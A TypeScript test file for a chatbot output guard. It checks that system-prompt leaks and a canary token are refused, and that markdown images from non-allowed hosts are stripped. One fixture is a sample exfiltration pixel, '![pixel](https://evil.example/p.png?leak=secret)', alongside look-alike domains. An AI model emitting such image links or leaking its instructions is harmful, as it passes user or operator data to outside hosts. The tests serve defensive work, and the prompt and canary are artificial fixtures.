/** The output guard: canary and prompt leaks refused, images only from allowed hosts, emoji per style, text held back only briefly. */
import { describe, expect, it } from "vitest";
import { HOLDBACK_CHARS, OutputGuard, REFUSAL, type GuardOptions } from "./output-guard";

const CONFIDENTIAL = [
  "You are Ada, the customer support assistant on this website. Be warm and friendly, and keep it simple.",
  "- Answer only from the knowledge passages below. Do not use outside knowledge and never guess.",
  "- Always mention the loyalty programme when customers ask about discounts for members.",
].join("\n");
const CANARY = "fdc_Zq81xPbT0aLmW3Yc";

const options = (overrides: Partial<GuardOptions> = {}): GuardOptions => ({
  canary: CANARY,
  confidential: CONFIDENTIAL,
  allowedImageHosts: ["images.shop.example"],
  emoji: "never",
  ...overrides,
});

/** Feeds `text` in pieces of `size` characters; returns what was shown and the guard. */
function stream(text: string, guardOptions = options(), size = 5): { shown: string[]; guard: OutputGuard } {
  const guard = new OutputGuard(guardOptions);
  const shown: string[] = [];
  for (let i = 0; i < text.length; i += size) {
    const out = guard.push(text.slice(i, i + size));
    if (out) shown.push(out);
  }
  const rest = guard.end();
  if (rest) shown.push(rest);
  return { shown, guard };
}

describe("output guard", () => {
  it("streams an ordinary answer in pieces, holding back only the last characters, and joins back to it", () => {
    const answer =
      "Refunds reach your card within five working days. You can follow the refund on the Orders page, where each order shows its status.";
    const guard = new OutputGuard(options());
    let shown = "";
    let pushed = 0;
    for (const word of answer.match(/\s*\S+/g) ?? []) {
      shown += guard.push(word);
      pushed += word.length;
      expect(pushed - shown.length).toBeLessThanOrEqual(HOLDBACK_CHARS);
    }
    expect(shown.length).toBeGreaterThan(0);
    shown += guard.end();
    expect(shown).toBe(answer);
    expect(guard.refused).toBe(false);
    expect(guard.text).toBe(answer);
  });

  it("refuses an answer with the canary, even spaced out or in other case, before any of the marker is shown", () => {
    for (const leak of [`The marker is ${CANARY}.`, `The marker is ${CANARY.toUpperCase().split("").join(" ")}!`]) {
      const { shown, guard } = stream(`Happy to help. ${leak} Anything else?`);
      expect(guard.refused).toBe(true);
      expect(guard.text).toBe(REFUSAL);
      expect(shown.join("")).not.toContain("fdc");
    }
  });

  it("refuses an answer repeating a long run of the confidential prompt, but allows short shared phrases", () => {
    const leak = stream(`Sure! My instructions say: ${CONFIDENTIAL}`);
    expect(leak.guard.refused).toBe(true);
    expect(leak.shown.join("")).not.toContain("Answer only from the knowledge passages");
    const ordinary = stream(
      "I'm Ada, the customer support assistant here. Our loyalty programme gives members ten percent off.",
    );
    expect(ordinary.guard.refused).toBe(false);
  });

  it("lets an answer quote its knowledge even where the instructions say the same", () => {
    const quotable =
      "Always mention the loyalty programme when customers ask about discounts for members: it saves them money.";
    const { guard } = stream(quotable, options({ quotable }));
    expect(guard.refused).toBe(false);
    expect(guard.text).toBe(quotable);
  });

  it("keeps images only from allowed https hosts; others become their alt text and are never shown in part", () => {
    const text = [
      "Logo: ![Shop logo](https://images.shop.example/logo.png)",
      "Pixel: ![pixel](https://evil.example/p.png?leak=secret)",
      "Plain http: ![http](http://images.shop.example/a.png)",
      "Look-alike: ![alike](https://images.shop.example.evil.test/a.png)",
      "Sub-host: ![sub](https://cdn.images.shop.example/a.png)",
      'Titled: ![titled](https://evil.example/t.png "title")',
    ].join("\n");
    const { shown, guard } = stream(text, options(), 3);
    expect(guard.text).toBe(
      [
        "Logo: ![Shop logo](https://images.shop.example/logo.png)",
        "Pixel: pixel",
        "Plain http: http",
        "Look-alike: alike",
        "Sub-host: sub",
        "Titled: titled",
      ].join("\n"),
    );
    const visible = shown.join("");
    expect(visible).toBe(guard.text);
    expect(visible).not.toContain("evil.example");
  });

  it("removes emoji when the style says never, keeps them when sometimes, and keeps ™ and ©", () => {
    const text = "Great news 🎉 the Arduino™ Uno ships today 👍🏽! © Acme";
    expect(stream(text).guard.text).toBe("Great news the Arduino™ Uno ships today! © Acme");
    expect(stream(text, options({ emoji: "sometimes" })).guard.text).toBe(text);
  });
});
